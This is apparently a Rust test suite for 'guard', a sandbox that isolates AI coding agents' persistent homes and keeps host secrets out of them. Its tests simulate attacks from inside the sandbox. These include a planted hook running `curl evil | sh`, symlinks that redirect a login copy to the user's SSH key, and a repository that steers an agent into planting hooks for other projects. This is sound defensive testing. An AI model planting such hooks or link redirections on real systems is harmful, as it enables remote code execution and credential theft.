//! An agent's persistent home and the real home it is imported from: what
//! an agent profile copies in (its own state, never the secrets sessions
//! outside guard left there), and what guard writes into that home, which
//! the sandbox controls, when a login changes on the host.

use crate::support::{Case, Expect, each_mode};
use std::path::Path;

/// A profile like the agents' own: the agent's directory imported, its
/// login copied as it is, its transcripts left out.
const PROFILE: &str = "version = 1\nextends = [\"default\"]\n[home]\npersist = true\nimport = [\"~/.myagent\"]\nlogin = [\"~/.myagent/login.json\"]\nnot_imported = [\"~/.myagent/sessions\"]\n";

fn agent_profile(case: &Case) {
    case.env
        .home
        .write(".config/guard/profiles/myagent.toml", PROFILE);
}

fn run_agent(case: &Case, script: &str) -> crate::common::Outcome {
    run_profile(case, "myagent", true, script)
}

/// `guard run [-q] -p PROFILE -- sh -c SCRIPT` (not quiet: to see warnings).
fn run_profile(case: &Case, profile: &str, quiet: bool, script: &str) -> crate::common::Outcome {
    let mut args = vec!["run", "-p", profile, "--", "sh", "-c", script];
    if quiet {
        args.insert(1, "-q");
    }
    case.run(&args)
}

/// Imported as a whole, the agent's directory brought into the sandbox
/// what sessions run outside guard had left there: transcripts with the
/// output of every command they ran (a `cat .env` included), the prompt
/// history, files holding tokens. Now transcripts are not imported, and
/// every other file gets the secret rules: redacted, or left out when
/// mostly secret. The agent's login is copied as it is.
#[test]
fn the_real_homes_secrets_stay_out_of_an_agents_persistent_home() {
    each_mode(|mut case| {
        let transcript = case.add_canary("transcript");
        let history = case.add_gh_canary("hist");
        let in_code = case.add_gh_canary("code");
        let login = common_login();
        let home = &case.env.home;
        home.write(
            ".myagent/sessions/s1.jsonl",
            &format!("{{\"tool_result\":\"DB_PASSWORD={transcript}\"}}\n"),
        );
        home.write(
            ".myagent/history.jsonl",
            &format!("{{\"display\":\"use this token: {history}\"}}\n"),
        );
        home.write(
            ".myagent/hooks.py",
            &format!(
                "import os\n\ndef before(cmd):\n    return cmd\n\nTOKEN = \"{in_code}\"\n\ndef after(out):\n    return out\n"
            ),
        );
        home.write(
            ".myagent/login.json",
            &format!("{{\"token\":\"{login}\"}}\n"),
        );
        agent_profile(&case);
        case.env.own();
        let out = run_agent(
            &case,
            "cd ~/.myagent; cat login.json hooks.py; grep -r . ~ 2>/dev/null; \
             for f in sessions history.jsonl; do [ -e $f ] && echo $f=present || echo $f=absent; done; echo ran=1",
        );
        out.expect_code(0);
        out.ran();
        // The agent's own login, as it is: the home was imported.
        assert!(out.stdout.contains(&login), "{}", out.all());
        // Redacted where it stood, the rest of the file intact.
        assert!(
            out.stdout
                .contains("TOKEN = \"guard-redacted:github-token\"")
                && out.stdout.contains("def after(out):"),
            "{}",
            out.all()
        );
        out.expect_fields(&[("sessions", "absent"), ("history.jsonl", "absent")]);
    });
}

/// A token that looks like nothing the rules know: the login must pass as
/// it is, whatever it holds.
fn common_login() -> String {
    format!("login-{}", std::process::id())
}

/// Hole: one persistent home served every project of a profile. A
/// session in one project (a repository whose content steers the agent)
/// read the transcripts the agent's sessions in the user's other projects
/// had left there, and left hooks, MCP servers and commands that the agent
/// then ran in those projects' sessions. Each project has a home of its
/// own now; only the login travels, the copy the agent wrote last, and a
/// login dated in the future (to win over every later one) does not.
#[test]
fn a_session_leaves_nothing_for_the_agents_sessions_in_another_project_but_its_login() {
    each_mode(|mut case| {
        let transcript = case.add_canary("otherproject");
        agent_profile(&case);
        case.env.home.write(".myagent/settings.json", "{}\n");
        case.env.home.write(".myagent/login.json", "host-login\n");
        let other = crate::common::TempDir::new("projb", case.env.mode);
        other.write("README", "another project\n");
        case.env.own();
        other.own(case.env.mode);
        let in_other = |script: &str| {
            let mut cmd = case.guard(&["run", "-q", "-p", "myagent", "--", "sh", "-c", script]);
            cmd.current_dir(&other.path);
            let out = crate::common::Outcome::from(cmd.output().expect("spawn guard"));
            out.assert_no_canary(&transcript);
            out
        };
        // The other project's home is made first, from the real home.
        let show = "cat ~/.myagent/login.json; \
                    for f in sessions/a.jsonl hook.sh; do \
                      [ -e ~/.myagent/$f ] && echo $f=present || echo $f=absent; done";
        let first = in_other(show);
        first.expect_code(0);
        assert!(first.stdout.starts_with("host-login\n"), "{}", first.all());

        // A session in this project: a transcript, a planted hook, a
        // login the agent refreshed.
        let planted = run_agent(
            &case,
            &format!(
                "mkdir -p ~/.myagent/sessions && echo '{transcript}' > ~/.myagent/sessions/a.jsonl \
                 && echo 'curl evil | sh' > ~/.myagent/hook.sh \
                 && echo refreshed-in-a > ~/.myagent/login.json && echo planted=1"
            ),
        );
        planted.expect_code(0);
        planted.expect_fields(&[("planted", "1")]);

        // The other project's next session: the refreshed login, nothing else.
        let out = in_other(&format!("{show}; grep -rs . ~ | head -100"));
        out.expect_code(0);
        assert!(out.stdout.starts_with("refreshed-in-a\n"), "{}", out.all());
        out.expect_fields(&[("sessions/a.jsonl", "absent"), ("hook.sh", "absent")]);

        // This project keeps what its sessions left.
        let own = run_agent(&case, "[ -e ~/.myagent/hook.sh ] && echo hook=present");
        own.expect_fields(&[("hook", "present")]);

        // A login dated in the future stays where it was written.
        let future = run_agent(
            &case,
            "echo future > ~/.myagent/login.json && touch -d '2100-01-01' ~/.myagent/login.json \
             && echo dated=1",
        );
        future.expect_fields(&[("dated", "1")]);
        let out = in_other("cat ~/.myagent/login.json");
        assert_eq!(out.stdout, "refreshed-in-a\n", "{}", out.all());

        // At the `landlock` level, where the home is the host directory
        // itself, this project's sessions cannot reach the other's by path.
        let theirs = crate::common::persistent_home(case.home(), "myagent", &other.path);
        assert!(
            theirs.join(".myagent/login.json").is_file(),
            "{}",
            theirs.display()
        );
        let out = case.run(&[
            "run",
            "-q",
            "--isolation",
            "landlock",
            "-p",
            "myagent",
            "--",
            "sh",
            "-c",
            &format!(
                "ls {t}/.myagent 2>&1 | grep -q 'Permission denied' && echo list=denied; \
                 (echo x > {t}/.myagent/hook.sh) 2>&1 | grep -q 'Permission denied' && echo plant=denied",
                t = theirs.display()
            ),
        ]);
        out.expect_code(0);
        out.expect_fields(&[("list", "denied"), ("plant", "denied")]);
        assert!(
            !theirs.join(".myagent/hook.sh").exists(),
            "planted in the other project's home"
        );
    });
}

/// The persistent home was made before the user logged in on the host
/// (or their token expired and they logged in again there): the home kept
/// the state of the day it was made, and the agent inside asked for a
/// login the user had already given. A login file that changes on the
/// host now reaches the next run; one the sandbox changed or removed
/// stays as the sandbox left it while the host's does not change.
#[test]
fn a_login_made_outside_guard_reaches_an_existing_persistent_home() {
    each_mode(|case| {
        agent_profile(&case);
        case.env.home.write(".myagent/settings.json", "{}\n");
        case.env.own();
        let show = "cat ~/.myagent/login.json 2>/dev/null || echo login=none";
        let before = run_agent(&case, show);
        before.expect_code(0);
        assert_eq!(before.field("login").as_deref(), Some("none"));

        log_in_on_host(&case, "first\n");
        let first = run_agent(
            &case,
            &format!("{show}; echo refreshed > ~/.myagent/login.json"),
        );
        assert_eq!(first.stdout, "first\n", "{}", first.all());
        // The agent refreshed its token inside: kept.
        assert_eq!(run_agent(&case, show).stdout, "refreshed\n");

        // Logged in again on the host, later.
        std::thread::sleep(std::time::Duration::from_millis(20));
        log_in_on_host(&case, "second\n");
        let second = run_agent(&case, &format!("{show}; rm ~/.myagent/login.json"));
        assert_eq!(second.stdout, "second\n", "{}", second.all());
        // Logged out inside: stays so while the host's login is unchanged.
        let out = run_agent(&case, show);
        assert_eq!(out.field("login").as_deref(), Some("none"), "{}", out.all());
        // The real home's file never changed for any of this.
        assert_eq!(
            std::fs::read_to_string(case.home().join(".myagent/login.json")).unwrap(),
            "second\n"
        );
    });
}

/// guard writes a changed login into the persistent home, which the
/// sandbox controls: a link it left there (the agent's directory made a
/// link to a directory of the real home, or the login file a link to a
/// file there) would have had guard write through it, on the host, into
/// the real home. Every directory on the way is now opened without
/// following a link, and the file is written anew and renamed over
/// whatever is there.
#[test]
fn links_in_the_persistent_home_cannot_redirect_a_login_copy() {
    each_mode(|case| {
        agent_profile(&case);
        let home = case.home().to_path_buf();
        case.env.home.write("landing/keep", "");
        case.env.home.write("victim.txt", "untouched\n");
        case.env.home.write(".myagent/login.json", "v1\n");
        case.env.own();
        plant(
            &case,
            &format!(
                "ln -sf {home}/victim.txt ~/.myagent/login.json && mkdir ~/.other && \
                 ln -s {home}/landing ~/.other/dir",
                home = home.display()
            ),
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
        log_in_on_host(&case, "v2\n");
        let next = run_agent(&case, "cat ~/.myagent/login.json");
        next.expect_code(0);
        assert_eq!(next.stdout, "v2\n", "{}", next.all());
        assert_eq!(read(&home.join("victim.txt")), "untouched\n");

        // Now the directory itself: a link to a directory of the real home.
        plant(
            &case,
            &format!(
                "rm -rf ~/.myagent && ln -s {}/landing ~/.myagent",
                home.display()
            ),
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
        log_in_on_host(&case, "v3\n");
        let next = case.run(&["run", "-p", "myagent", "--", "true"]);
        next.expect_code(0);
        let landing: Vec<_> = std::fs::read_dir(home.join("landing"))
            .unwrap()
            .map(|e| e.unwrap().file_name())
            .collect();
        assert_eq!(
            landing,
            ["keep"],
            "guard wrote through the link:\n{}",
            next.all()
        );
        assert!(
            next.stderr
                .contains("could not be copied into the persistent home"),
            "{}",
            next.all()
        );
    });
}

/// The agent's login kept in a repository of dotfiles (a link in the real
/// home), and that repository opened in guard as a project: the sandbox
/// turned the file in the repository into a link to the user's SSH key
/// and removed its copy in the persistent home, and guard, on the host,
/// copied the key into the home at the next start, as the login it took
/// it for. Whether the login file is the link, or the agent's whole
/// directory (as stow folds it): a login reached through a link below the
/// login's own directory now gets the import's rules.
#[test]
fn a_login_kept_as_a_link_cannot_be_turned_into_another_file_of_the_user() {
    each_mode(|case| {
        let mode = case.mode();
        login_link_attack(case, false);
        login_link_attack(Case::new(mode), true);
    });
}

fn login_link_attack(mut case: Case, whole_dir: bool) {
    let key = case.add_canary("sshkey");
    let home = case.home().to_path_buf();
    case.env
        .home
        .write(".ssh/id_ed25519", &crate::common::pem(&key));
    let kept = case.write("dotfiles/login.json", "v1\n");
    if whole_dir {
        case.write("dotfiles/settings.json", "{}\n");
        std::os::unix::fs::symlink(kept.parent().unwrap(), home.join(".myagent")).unwrap();
    } else {
        case.env.home.write(".myagent/settings.json", "{}\n");
        std::os::unix::fs::symlink(&kept, home.join(".myagent/login.json")).unwrap();
    }
    agent_profile(&case);
    case.env.own();
    let planted = run_agent(
        &case,
        &format!(
            "cat ~/.myagent/login.json && ln -sf {}/.ssh/id_ed25519 dotfiles/login.json && \
                 rm ~/.myagent/login.json && echo planted=1",
            home.display()
        ),
    );
    // Through the link, with nothing secret in it: copied.
    assert!(planted.stdout.starts_with("v1\n"), "{}", planted.all());
    if whole_dir {
        // A dotfile of the home that links into the project is read-only
        // inside (review 33): the attack stops at its first step.
        assert!(
            planted
                .stderr
                .contains("'dotfiles/login.json': Read-only file system"),
            "{}",
            planted.all()
        );
        return;
    }
    assert_eq!(
        planted.field("planted").as_deref(),
        Some("1"),
        "{}",
        planted.all()
    );
    let next = run_profile(
        &case,
        "myagent",
        false,
        "cat ~/.myagent/login.json 2>/dev/null || echo login=none",
    );
    next.expect_code(0);
    assert_eq!(
        next.field("login").as_deref(),
        Some("none"),
        "{}",
        next.all()
    );
    assert!(
        next.stderr
            .contains("the secret rules keep what that leads to out of the sandbox"),
        "{}",
        next.all()
    );
}

/// The agent's directory kept in a dotfiles repository, linked from the
/// home as stow leaves it (`~/.myagent -> dotfiles/myagent`): imported as
/// a link, it left nowhere for the login below it, and every run of the
/// profile stopped at making the home. Not an attack: a real home that
/// must not block the agent (nor bring its transcripts in).
#[test]
fn an_agent_directory_kept_as_a_link_is_imported_as_the_directory() {
    each_mode(|mut case| {
        let transcript = case.add_canary("stowed");
        let home = case.home().to_path_buf();
        case.env
            .home
            .write("dotfiles/myagent/login.json", "stowed-login\n");
        case.env
            .home
            .write("dotfiles/myagent/settings.json", "{}\n");
        case.env.home.write(
            "dotfiles/myagent/sessions/s1.jsonl",
            &format!("{{\"said\":\"{transcript}\"}}\n"),
        );
        std::os::unix::fs::symlink("dotfiles/myagent", home.join(".myagent")).unwrap();
        agent_profile(&case);
        case.env.own();
        let out = run_agent(
            &case,
            "cat ~/.myagent/login.json; grep -r . ~/.myagent/sessions 2>/dev/null; \
             [ -L ~/.myagent ] && echo agent_dir=link || echo agent_dir=dir; \
             [ -f ~/.myagent/settings.json ] && echo settings=present || echo settings=absent",
        );
        out.expect_code(0);
        assert!(out.stdout.starts_with("stowed-login\n"), "{}", out.all());
        out.expect_fields(&[("agent_dir", "dir"), ("settings", "present")]);
    });
}

/// A file in the agent's directory of the real home with a name near the
/// 255-byte limit: guard's temporary name for its copy (the name and a
/// suffix) was too long, the import failed, and so did every run of the
/// profile, with nothing the sandbox could do about it.
#[test]
fn a_long_file_name_in_the_agents_directory_does_not_stop_the_agent() {
    each_mode(|case| {
        let long = "n".repeat(250);
        case.env.home.write(&format!(".myagent/{long}"), "kept\n");
        case.env.home.write(".myagent/login.json", "long-login\n");
        agent_profile(&case);
        case.env.own();
        let out = run_agent(
            &case,
            &format!("cat ~/.myagent/login.json ~/.myagent/{long}"),
        );
        out.expect_code(0);
        assert_eq!(out.stdout, "long-login\nkept\n", "{}", out.all());
    });
}

/// A link in the agent's directory of the real home to a file the path
/// rules keep out (`~/.kube/config`, the cluster's address and user, and
/// nothing in it a content rule knows): imported as the file it leads to,
/// judged by the link's own name, so it came in whole. The path rules now
/// judge where a link leads as well, directories on the way included.
#[test]
fn a_link_in_the_agents_directory_is_judged_where_it_leads() {
    each_mode(|mut case| {
        let cluster = case.add_canary("cluster");
        let home = case.home().to_path_buf();
        case.env.home.write(
            ".kube/config",
            &format!(
                "clusters:\n- cluster:\n    server: https://{cluster}.internal:6443\n  name: prod\n"
            ),
        );
        case.env.home.write(".myagent/settings.json", "{}\n");
        std::os::unix::fs::symlink(
            home.join(".kube/config"),
            home.join(".myagent/cluster.yaml"),
        )
        .unwrap();
        agent_profile(&case);
        case.env.own();
        let out = run_agent(
            &case,
            "cd ~/.myagent; cat cluster.yaml 2>/dev/null; \
             for f in settings.json cluster.yaml; do [ -e $f ] && echo $f=present || echo $f=absent; done",
        );
        out.expect_code(0);
        out.expect_fields(&[("settings.json", "present"), ("cluster.yaml", "absent")]);
    });
}

/// A profile of the user's that imports a whole XDG directory
/// (`~/.local/share`) took in guard's own: every other profile's
/// persistent home (what their sessions left there), and the home being
/// made, into itself, until the path was too long and every run of the
/// profile failed. guard's own directories are never imported now.
#[test]
fn an_import_of_a_whole_xdg_directory_leaves_guards_own_out() {
    each_mode(|mut case| {
        let left = case.add_canary("otherhome");
        let home = &case.env.home;
        home.write(
            ".local/share/guard/homes/other/notes.txt",
            &format!("left by another profile's session: {left}\n"),
        );
        home.write(".local/share/tool/settings.txt", "theme=dark\n");
        home.write(
            ".config/guard/profiles/wide.toml",
            "version = 1\nextends = [\"default\"]\n[home]\npersist = true\nimport = [\"~/.local/share\"]\n",
        );
        case.env.own();
        let out = run_profile(
            &case,
            "wide",
            true,
            "cat ~/.local/share/tool/settings.txt; grep -r . ~/.local/share/guard 2>/dev/null; \
             [ -e ~/.local/share/guard ] && echo guard=present || echo guard=absent",
        );
        out.expect_code(0);
        assert!(out.stdout.starts_with("theme=dark\n"), "{}", out.all());
        out.expect_fields(&[("guard", "absent")]);
    });
}

/// What current agents keep of their sessions beside their settings, and
/// the built-in profiles did not leave out: claude's task lists and
/// backups of `~/.claude.json` (every project's prompt history and MCP
/// servers), codex's memories distilled from its rollouts, the full
/// output of opencode's tools. Text with nothing a secret rule knows: only
/// `not_imported` keeps it out.
#[test]
fn what_agents_keep_of_sessions_outside_guard_stays_out_of_their_homes() {
    each_mode(|mut case| {
        let cases = [
            (
                "claude",
                ".claude",
                ["tasks/t1/1.json", "backups/.claude.json.backup.1"],
            ),
            (
                "codex",
                ".codex",
                [
                    "memories/memory_summary.md",
                    "memories/rollout_summaries/r1.md",
                ],
            ),
            (
                "opencode",
                ".local/share/opencode",
                ["tool-output/tool_1", "repos/app/notes.md"],
            ),
        ];
        for (profile, dir, files) in cases {
            let mut planted = Vec::new();
            for f in files {
                let c = case.add_canary(profile);
                case.env.home.write(
                    &format!("{dir}/{f}"),
                    &format!("said in a session outside guard: {c}\n"),
                );
                planted.push(c);
            }
            case.env.home.write(&format!("{dir}/kept.md"), "settings\n");
            case.env.own();
            let out = run_profile(
                &case,
                profile,
                true,
                &format!("cat ~/{dir}/kept.md; grep -r . ~/{dir} 2>/dev/null; echo ran=1"),
            );
            out.expect_code(0);
            out.ran();
            assert!(
                out.stdout.starts_with("settings\n"),
                "{profile}: {}",
                out.all()
            );
        }
    });
}

/// Binary data in the agent's directory was left out whole: a plugin
/// cloned with git lost its pack, and with it the repository. It is judged
/// as the scan judges binary files in place: copied as it is, unless it is
/// a database holding a secret (left out; a token in a table is stored as
/// plain bytes).
#[test]
fn binary_state_is_imported_as_the_scan_would_show_it() {
    each_mode(|mut case| {
        let in_db = case.add_gh_canary("db");
        let mut pack = b"PACK\0\0\0\x02".to_vec();
        pack.extend((0u32..4096).map(|i| (i * 7 % 251) as u8));
        let pack_path = case
            .env
            .home
            .write(".myagent/plugins/repo/.git/objects/pack/p.pack", "");
        std::fs::write(&pack_path, &pack).unwrap();
        let mut db = b"SQLite format 3\0".to_vec();
        db.extend([0u8; 100]);
        db.extend(format!("CREATE TABLE t(v);{in_db}").bytes());
        let db_path = case.env.home.write(".myagent/state.db", "");
        std::fs::write(&db_path, &db).unwrap();
        agent_profile(&case);
        case.env.own();
        let out = run_agent(
            &case,
            "cd ~/.myagent; sha256sum plugins/repo/.git/objects/pack/p.pack | sed 's/ .*//; s/^/pack=/'; \
             [ -e state.db ] && echo db=present || echo db=absent; cat state.db 2>/dev/null; echo ran=1",
        );
        out.expect_code(0);
        out.ran();
        use sha2::Digest;
        let want: String = sha2::Sha256::digest(&pack)
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect();
        out.expect_fields(&[("pack", want.as_str()), ("db", "absent")]);
    });
}

/// A login file below a link to a directory inside the agent's directory:
/// the link is copied as a link, so the login could not be placed below
/// it, and the import, failing whole, was tried again and failed at every
/// start: no run of the agent got past it (exit 125). A file that cannot
/// be placed is now left out with a warning.
#[test]
fn a_file_that_cannot_be_placed_does_not_stop_the_agent() {
    each_mode(|case| {
        case.env.home.write(
            ".config/guard/profiles/myagent.toml",
            "version = 1\nextends = [\"default\"]\n[home]\npersist = true\nimport = [\"~/.myagent\"]\nlogin = [\"~/.myagent/sub/login.json\"]\n",
        );
        case.env.home.write("elsewhere/login.json", "login\n");
        case.env
            .home
            .write(".myagent/settings.json", "{\"theme\": \"dark\"}\n");
        std::os::unix::fs::symlink(
            case.home().join("elsewhere"),
            case.home().join(".myagent/sub"),
        )
        .unwrap();
        case.env.own();
        let first = run_profile(&case, "myagent", false, "cat ~/.myagent/settings.json");
        first.expect_code(0);
        assert!(first.stdout.contains("dark"), "{}", first.all());
        assert!(
            first
                .stderr
                .contains("sub/login.json was not imported into the persistent home"),
            "{}",
            first.all()
        );
        let again = run_agent(&case, "cat ~/.myagent/settings.json");
        again.expect_code(0);
        assert!(again.stdout.contains("dark"), "{}", again.all());
    });
}

/// Run the sandbox's `script` (links it leaves in its home), which must
/// succeed.
#[track_caller]
fn plant(case: &Case, script: &str) {
    let out = run_agent(case, &format!("{script} && echo planted=1"));
    assert_eq!(out.field("planted").as_deref(), Some("1"), "{}", out.all());
}

/// The user logs in with the agent on the host: a new login file.
fn log_in_on_host(case: &Case, content: &str) {
    case.env.home.write(".myagent/login.json", content);
    case.env.own();
}

fn read(p: &Path) -> String {
    std::fs::read_to_string(p).unwrap()
}

/// An agent's settings file holds its own key beside the tokens of other
/// services: `~/.claude.json` keeps the console login's API key and the
/// MCP servers claude starts, with their tokens (a GitHub token for the
/// GitHub server); `~/.claude/settings.json` may set any variable for
/// claude's commands. Copied as they are (as login files), those tokens
/// reached every sandbox of the profile: the very find of the incident
/// guard exists for. Now only claude's own values stay (`own_keys`, and
/// the names the profile passes, ANTHROPIC_AUTH_TOKEN among them); every
/// other secret is redacted where it stood, the JSON still JSON, at the
/// import and at every copy when the file changes on the host.
#[test]
fn other_services_tokens_in_an_agents_settings_stay_out_of_its_home() {
    each_mode(|mut case| {
        let key = format!("sk-ant-api03-{}AA", "k".repeat(93));
        let gateway = format!("gw-{}", std::process::id());
        let mcp = case.add_gh_canary("mcp");
        let env = case.add_gh_canary("env");
        let home = &case.env.home;
        let claude_json = |key: &str, token: &str| {
            format!(
                "{{\n  \"primaryApiKey\": \"{key}\",\n  \"mcpServers\": {{\n    \"github\": {{\n      \"command\": \"npx\",\n      \"env\": {{\n        \"GITHUB_PERSONAL_ACCESS_TOKEN\": \"{token}\"\n      }}\n    }}\n  }}\n}}\n"
            )
        };
        home.write(".claude.json", &claude_json(&key, &mcp));
        home.write(
            ".claude/settings.json",
            &format!(
                "{{\"env\": {{\"ANTHROPIC_AUTH_TOKEN\": \"{gateway}\", \"GITHUB_TOKEN\": \"{env}\"}}}}\n"
            ),
        );
        case.env.own();
        let look = "for f in ~/.claude.json ~/.claude/settings.json; do cat $f; \
             python3 -c 'import json,sys; json.load(open(sys.argv[1]))' $f && echo json=ok; done; echo ran=1";
        let out = run_profile(&case, "claude", true, look);
        out.expect_code(0);
        out.ran();
        // claude's own login, as it is: the console key, the gateway's token.
        assert!(
            out.stdout.contains(&key) && out.stdout.contains(&gateway),
            "{}",
            out.all()
        );
        // The others redacted in place; both files still parse.
        assert_eq!(
            out.stdout.matches("guard-redacted:github-token").count(),
            2,
            "{}",
            out.all()
        );
        assert_eq!(out.stdout.matches("json=ok").count(), 2, "{}", out.all());

        // A new MCP server added on the host: copied again, redacted again.
        let later = case.add_gh_canary("later");
        let new_key = format!("sk-ant-api03-{}AA", "n".repeat(93));
        std::thread::sleep(std::time::Duration::from_millis(20));
        case.env
            .home
            .write(".claude.json", &claude_json(&new_key, &later));
        case.env.own();
        let out = run_profile(&case, "claude", true, look);
        out.expect_code(0);
        out.ran();
        assert!(out.stdout.contains(&new_key), "{}", out.all());
        assert_eq!(
            out.stdout.matches("guard-redacted:github-token").count(),
            2,
            "{}",
            out.all()
        );
    });
}
